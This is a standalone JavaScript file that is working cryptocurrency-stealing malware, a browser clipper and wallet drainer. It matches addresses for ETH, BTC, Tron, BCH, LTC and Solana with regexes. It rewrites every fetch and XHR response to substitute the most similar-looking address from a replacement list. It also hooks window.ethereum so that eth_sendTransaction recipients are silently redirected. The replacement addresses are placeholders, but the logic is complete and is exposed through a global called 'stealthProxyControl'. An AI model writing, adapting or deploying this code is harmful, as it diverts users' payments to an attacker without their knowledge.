const swapTo = {
  eth: ['0xFIXTURE00000000000000000000000000000001', '0xFIXTURE00000000000000000000000000000002', '0xFIXTURE00000000000000000000000000000003'],
  btcLegacy: ['1FIXTUREFixtureFixtureFixture0001', '1FIXTUREFixtureFixtureFixture0002'],
  btcSegwit: ['bc1qfixturefixturefixturefixturefixture01', 'bc1qfixturefixturefixturefixturefixture02'],
  tron: ['TFIXTUREFixtureFixtureFixture00001', 'TFIXTUREFixtureFixtureFixture00002'],
  bch: ['bitcoincash:qfixturefixturefixturefixturefixture001'],
  ltc: ['LFIXTUREFixtureFixtureFixture00001'],
  sol: ['FIXTUREso1anaFixtureFixtureFixtureFixture001']
};
const patterns = {
  eth: /\b0x[a-fA-F0-9]{40}\b/g,
  btcLegacy: /\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\b/g,
  btcSegwit: /\bbc1[qpzry9x8gf2tvdw0s3jn54khce6mua7l]{39,59}\b/g,
  tron: /\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g,
  bch: /\bbitcoincash:[qp][a-z0-9]{41}\b/g,
  ltc: /\b[LM][a-km-zA-HJ-NP-Z1-9]{26,33}\b/g,
  sol: /\b[1-9A-HJ-NP-Za-km-z]{32,44}\b/g
};
function distance(first, second) {
  const rows = [];
  for (let row = 0; row <= first.length; row++) rows[row] = [row];
  for (let col = 0; col <= second.length; col++) rows[0][col] = col;
  for (let row = 1; row <= first.length; row++) {
    for (let col = 1; col <= second.length; col++) {
      const cost = first[row - 1] === second[col - 1] ? 0 : 1;
      rows[row][col] = Math.min(rows[row - 1][col] + 1, rows[row][col - 1] + 1, rows[row - 1][col - 1] + cost);
    }
  }
  return rows[first.length][second.length];
}
function closest(found, choices) {
  let best = choices[0];
  let bestScore = Infinity;
  for (const choice of choices) {
    const score = distance(found.toLowerCase(), choice.toLowerCase());
    if (score < bestScore) {
      bestScore = score;
      best = choice;
    }
  }
  return best;
}
function rewrite(text) {
  if (typeof text !== 'string') return text;
  let result = text;
  for (const kind of Object.keys(patterns)) {
    result = result.replace(patterns[kind], function (found) {
      return closest(found, swapTo[kind]);
    });
  }
  return result;
}
function patchFetch() {
  const originalFetch = window.fetch;
  window.fetch = async function () {
    const response = await originalFetch.apply(this, arguments);
    const contentType = response.headers.get('Content-Type') || '';
    if (contentType.indexOf('json') === -1 && contentType.indexOf('text') === -1) return response;
    const body = await response.clone().text();
    return new Response(rewrite(body), { status: response.status, statusText: response.statusText, headers: response.headers });
  };
}
function patchXhr() {
  const originalOpen = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function () {
    this.addEventListener('readystatechange', function () {
      if (this.readyState === 4) {
        const changed = rewrite(this.responseText);
        Object.defineProperty(this, 'responseText', { value: changed });
        Object.defineProperty(this, 'response', { value: changed });
      }
    });
    return originalOpen.apply(this, arguments);
  };
}
function hookWallet(provider) {
  for (const method of ['request', 'send', 'sendAsync']) {
    const original = provider[method];
    if (typeof original !== 'function') continue;
    Object.defineProperty(provider, method, {
      configurable: true,
      value: function (payload) {
        const call = payload && payload.method ? payload : arguments[1] || {};
        if (call.method === 'eth_sendTransaction' && call.params && call.params[0]) {
          call.params[0].to = closest(call.params[0].to || '', swapTo.eth);
        }
        return original.apply(provider, arguments);
      }
    });
  }
}
if (typeof window !== 'undefined') {
  if (window.ethereum) hookWallet(window.ethereum);
  patchFetch();
  patchXhr();
  window.stealthProxyControl = { rewrite: rewrite, wallets: swapTo };
}
